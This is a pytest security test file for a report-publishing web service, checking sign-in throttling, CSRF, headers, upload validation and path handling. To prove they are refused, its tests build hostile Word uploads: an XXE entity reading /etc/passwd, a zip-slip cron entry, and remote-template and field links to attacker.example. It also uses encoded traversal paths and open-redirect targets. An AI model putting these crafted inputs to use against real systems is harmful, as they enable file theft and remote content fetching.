"""The service's security, on SQLite and PostgreSQL: sign-in and its rate limit, session
cookies, CSRF on every form, headers, 403s logged, upload limits and checks, and no path from a
request to the file system."""

from __future__ import annotations

import datetime as dt
import io
import logging
import re
import zipfile

import pytest
import sqlalchemy as sa
from docx import Document

from reportgen.ooxml.upload import UnsafeDocument, check_docx
from reportgen.web import create_app
from reportgen.workflow import tracker
from reportgen.workflow.store import Store
from reportgen.workflow.store import now as store_now
from tests.conftest import EAST, PASSWORD, TEAM, boxed_edit
from tests.web.conftest import Client

ID = "luton-pdu-report"


def docx_bytes() -> bytes:
    doc = Document()
    doc.add_paragraph("A plain document.")
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def repacked(content: bytes, extra: dict[str, bytes] | None = None,
             change: dict[str, bytes] | None = None) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            z.writestr(item, (change or {}).get(item.filename, src.read(item)))
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return out.getvalue()


def test_every_page_needs_a_signed_in_account(client):
    for path in ("/", f"/reports/{ID}", "/inputs", "/correspondence", "/accounts"):
        response = client.get(path)
        assert response.status_code == 302 and response.location.startswith("/sign-in")


def test_a_wrong_password_or_name_says_the_same_and_a_disabled_account_cannot_sign_in(
        client, app):
    wrong = client.post("/sign-in", {"name": TEAM["editor"], "password": "not the password"})
    nobody = client.post("/sign-in", {"name": "Nobody", "password": PASSWORD})
    for response in (wrong, nobody):
        assert response.status_code == 401
        assert "The account name or password is wrong" in response.get_data(as_text=True)
    from reportgen.workflow import accounts
    accounts.change(app.extensions["reportgen"].store, TEAM["editor"], TEAM["admin"],
                    active=False)
    assert client.sign_in("editor").status_code == 401


def test_sign_in_slows_a_guesser_without_locking_the_owner_out(app, store_url, tmp_path):
    """Five wrong passwords refused even the right one for 15 minutes, from anywhere: anyone
    could lock the administrator out. The counter lived in one process's memory."""
    store = app.extensions["reportgen"].store
    attacker = Client(app, "203.0.113.9")
    for _ in range(3):
        assert attacker.sign_in("coo", password="guess " * 3).status_code == 401
    with store.engine.begin() as conn:  # three more failures made earlier: a wait of 16 s
        conn.execute(sa.text("UPDATE sign_in_failures SET failures = 6, last_at = :t WHERE "
                             "client = '203.0.113.9' AND account != '*'"), {"t": store_now()})
    refused = attacker.sign_in("coo")  # refused unchecked, even the right password
    assert refused.status_code == 429
    assert re.search(r"wait 1[0-7] seconds, then try again", refused.get_data(as_text=True))
    # The owner, from their own client, signs in at once.
    assert Client(app, "10.0.0.5").sign_in("coo").status_code == 302
    # Another process of the service (another app over the same store) knows the count.
    other = create_app(store_url, tmp_path / "other", secret_key="other " * 8)
    assert Client(other, "203.0.113.9").sign_in("coo").status_code == 429
    # Once the wait is over the password is checked again; each failure doubles the wait.
    with store.engine.begin() as conn:
        conn.execute(sa.text("UPDATE sign_in_failures SET last_at = :t"),
                     {"t": store_now() - dt.timedelta(minutes=1)})
    assert attacker.sign_in("coo", password="guess " * 3).status_code == 401
    assert re.search(r"wait (2[6-9]|3[0-3]) seconds", attacker.sign_in("coo").get_data(
        as_text=True))
    assert Client(app, "127.0.0.1").sign_in("editor").status_code == 302  # others unaffected


def test_the_session_cookie_is_secure_http_only_and_same_site(client):
    response = client.sign_in("editor")
    cookie = response.headers["Set-Cookie"]
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie


def test_sign_in_goes_only_to_a_page_of_the_service(client):
    for target, expected in (("//evil.example/x", "/"), ("https://evil.example/", "/"),
                             ("/inputs", "/inputs")):
        response = client.post(f"/sign-in?next={target}", {"name": TEAM["editor"],
                                                           "password": PASSWORD})
        assert response.location == expected
        client.post("/sign-out")


def test_every_form_is_refused_without_its_csrf_token(app, as_role, tracked):
    admin = as_role("admin")
    posts = sorted(r.rule for r in app.url_map.iter_rules() if "POST" in r.methods)
    assert len(posts) >= 13
    for rule in posts:
        path = re.sub(r"<(int:)?(\w+)>", lambda m: {"report_id": ID, "code": "cy",
                                                     "name": TEAM["editor"],
                                                     "change": "disable"}.get(m[2], "1"), rule)
        response = admin.post(path, {}, token=False)
        assert response.status_code == 400, rule
    assert admin.get(f"/reports/{ID}").status_code == 200  # nothing happened to it
    assert tracked.report(ID).stage == "draft"


def test_headers_forbid_framing_and_scripts_from_elsewhere(as_role):
    response = as_role("editor").get("/")
    csp = response.headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in csp and "default-src 'self'" in csp
    assert "unsafe-inline" not in csp
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"
    page = response.get_data(as_text=True)
    nonce = re.search(r"'nonce-([^']+)'", csp).group(1)
    scripts = re.findall(r"<script([^>]*)>", page)
    assert scripts and all(f'nonce="{nonce}"' in s for s in scripts)
    # Every stylesheet, script and image is served from here, not from a CDN.
    assert not re.search(r'<(script|link|img)[^>]*(src|href)="(https?:)?//', page)
    # How long the page took to make, and nothing else about the service.
    assert re.fullmatch(r"app;dur=\d+\.\d", response.headers["Server-Timing"])


def test_the_design_system_is_served_locally(client, as_role):
    css = client.get("/frontend/govuk-frontend.min.css")  # before signing in too
    assert css.status_code == 200 and b".govuk-button" in css.data
    assert client.get("/assets/images/favicon.svg").status_code == 200
    assert as_role("editor").get("/frontend/..%2fpackage.json").status_code == 404


def test_a_forbidden_action_is_refused_with_403_and_logged(as_role, tracked, caplog):
    translator = as_role("translator")
    with caplog.at_level(logging.WARNING, "reportgen.security"):
        response = translator.post(f"/reports/{ID}/advance", {}, prefix="move")
    assert response.status_code == 403
    assert "does not own the draft stage" in response.get_data(as_text=True)
    assert f"refused: {TEAM['translator']} may not advance {ID}" in caplog.text
    [line] = tracked.audit_lines(ID, refused_only=True)
    assert line.account == TEAM["translator"]
    assert tracked.report(ID).stage == "draft"


def test_an_upload_over_the_limit_is_refused(as_role, tracked):
    owner = as_role("lead-inspector")
    big = io.BytesIO(b"PK" + b"0" * (11 * 1024 * 1024))
    response = owner.post(f"/reports/{ID}/edited", {"edited-lang": "en",
                                                     "edited-document": (big, "big.docx")},
                          prefix="edited")
    assert response.status_code == 413
    assert len(tracked.versions(ID)) == 1


@pytest.mark.parametrize(("name", "make", "says"), [
    ("not-word", lambda: b"%PDF-1.7 not a zip", "not a Word document"),
    ("bomb", lambda: repacked(docx_bytes(), {"word/media/zeros.bin.xml": b"\0" * 50_000_000}),
     "zip bomb"),
    ("entities", lambda: repacked(docx_bytes(), change={"word/document.xml": (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b'<w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>')}),
     "declares a DTD or entities"),
    ("macros", lambda: repacked(docx_bytes(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
     "carries macros"),
    # A DTD in a part whose name does not end in .xml passed, and an undefined entity gave 500.
    ("dtd-elsewhere", lambda: repacked(docx_bytes(), {"word/extra.dat": (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&undefined;</x>')}),
     "word/extra.dat declares a DTD or entities"),
    ("ole-link", lambda: with_relationship(
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject",
        "file://///attacker.example/share/x.xlsx"), "it links to something outside itself"),
    ("unc-hyperlink", lambda: with_relationship(
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
        "\\\\attacker.example\\share"), "it links to something outside itself"),
    ("zip-slip", lambda: repacked(docx_bytes(), {"../../../etc/cron.d/x": b"* * * * * x"}),
     "could lead outside the document"),
    ("embedded", lambda: repacked(docx_bytes(), {"word/embeddings/oleObject1.xlsx": b"PK"}),
     "it embeds objects"),
    # A picture fetched from another computer when Word updates fields, its instruction split
    # across runs as Word writes it; text included from a share by a simple field.
    ("include-picture", lambda: with_paragraph(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">PICTURE "\\\\attacker.example\\x.png" \\d'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'),
     "a field that fetches content when Word updates it"),
    ("include-text", lambda: with_paragraph(
        '<w:fldSimple w:instr=" INCLUDETEXT &quot;//attacker.example/x.docx&quot; ">'
        "<w:r><w:t>x</w:t></w:r></w:fldSimple>"),
     "a field that fetches content when Word updates it"),
])
def test_a_word_upload_that_is_not_a_plain_document_is_refused(as_role, tracked, name, make,
                                                                says):
    content = make()
    with pytest.raises(UnsafeDocument, match=says):
        check_docx(content, "x.docx")
    response = as_role("lead-inspector").post(
        f"/reports/{ID}/edited", {"edited-lang": "en",
                                  "edited-document": (io.BytesIO(content), f"{name}.docx")},
        prefix="edited", follow_redirects=True)
    page = response.get_data(as_text=True)
    assert "That was refused" in page and says in page
    assert len(tracked.versions(ID)) == 1  # nothing kept


def with_relationship(kind: str, target: str, content: bytes | None = None,
                      part: str = "word/_rels/document.xml.rels") -> bytes:
    """A document with one more relationship, to a target outside it."""
    content = content or docx_bytes()
    rels = zipfile.ZipFile(io.BytesIO(content)).read(part).decode()
    extra = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}" TargetMode="External"/>'
    return repacked(content, change={part: rels.replace("</Relationships>",
                                                        extra + "</Relationships>").encode()})


def with_paragraph(inner: str) -> bytes:
    """A document with one more paragraph, of the runs given, at the end of its body."""
    content = docx_bytes()
    xml = zipfile.ZipFile(io.BytesIO(content)).read("word/document.xml").decode()
    at = xml.rindex("<w:sectPr")
    return repacked(content, change={"word/document.xml": (
        xml[:at] + f"<w:p>{inner}</w:p>" + xml[at:]).encode()})


def test_a_plain_word_document_passes_the_checks():
    check_docx(docx_bytes(), "plain.docx")


def test_fields_that_fetch_nothing_pass():
    check_docx(with_paragraph(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>3</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:fldSimple w:instr=\' HYPERLINK "https://www.gov.uk/" \'><w:r><w:t>GOV.UK</w:t>'
        "</w:r></w:fldSimple>"), "fields.docx")


def test_a_web_link_is_kept(tmp_path):
    content = with_relationship(
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
        "https://www.justiceinspectorates.gov.uk/hmiprobation/")
    kept = zipfile.ZipFile(io.BytesIO(check_docx(content, "x.docx")))
    assert b"https://www.justiceinspectorates.gov.uk/hmiprobation/" in \
        kept.read("word/_rels/document.xml.rels")


def test_an_edit_with_a_remote_template_is_kept_without_it_and_served_by_name(as_role, tracked):
    """A document with a remote attached template was kept and served to every account as it
    was uploaded, named "the uploaded document": opening it fetched the template."""
    held = tracked.latest(ID, "en")
    edited = boxed_edit(tracked.content(ID, held.id), "$.foreword[0]", "A foreword, edited.")
    settings = zipfile.ZipFile(io.BytesIO(edited)).read("word/settings.xml").decode()
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/>', settings)
    if "xmlns:r=" not in settings:
        settings = settings.replace("<w:settings ", '<w:settings xmlns:r="http://schemas.'
                                    'openxmlformats.org/officeDocument/2006/relationships" ', 1)
    edited = repacked(edited, change={"word/settings.xml": settings.encode()})
    edited = repacked(edited, {"word/_rels/settings.xml.rels": (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
        b'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
        b"</Relationships>")})
    owner = as_role("lead-inspector")
    response = owner.post(f"/reports/{ID}/edited", {
        "edited-document": (io.BytesIO(edited), "edited.docx")}, prefix="edited")
    assert response.status_code == 302
    assert tracked.data(ID).number == 2
    [upload] = [v for v in tracked.versions(ID) if v.lang == "en:edited"]
    download = as_role("editor").get(f"/reports/{ID}/versions/{upload.id}")
    assert f"filename={ID}-2.en.edited.docx" in download.headers["Content-Disposition"]
    served = zipfile.ZipFile(io.BytesIO(download.data))
    every = b"".join(served.read(n) for n in served.namelist())
    assert b"attacker.example" not in every and b"attachedTemplate" not in every
    assert b'TargetMode="External"' not in every


def test_no_path_from_a_request_reaches_the_file_system(as_role, tracked):
    editor = as_role("editor")
    for path in (f"/reports/{ID}/published/..%2f..%2fsecret-key",
                 f"/reports/{ID}/published/manifest.json",  # nothing published yet
                 f"/reports/{ID}/editions/en.exe", f"/reports/{ID}/editions/..%2f.docx",
                 f"/reports/{ID}/editions/cy.docx",  # Luton has no Welsh edition
                 "/reports/..%2f..%2fetc%2fpasswd", "/correspondence/1/..%2fsecret-key",
                 "/static/..%2f__init__.py", "/assets/..%2f..%2fpackage.json"):
        assert editor.get(path).status_code == 404, path


def test_a_version_of_another_report_is_not_served_under_this_one(app, as_role, tracked):
    other = Store(tracked.url)
    tracker.start(other, EAST / "pdus" / "bedfordshire.json", "pdu-report",
                  TEAM["lead-inspector"])
    [theirs] = other.versions("bedfordshire-pdu-report")
    assert as_role("editor").get(f"/reports/{ID}/versions/{theirs.id}").status_code == 404
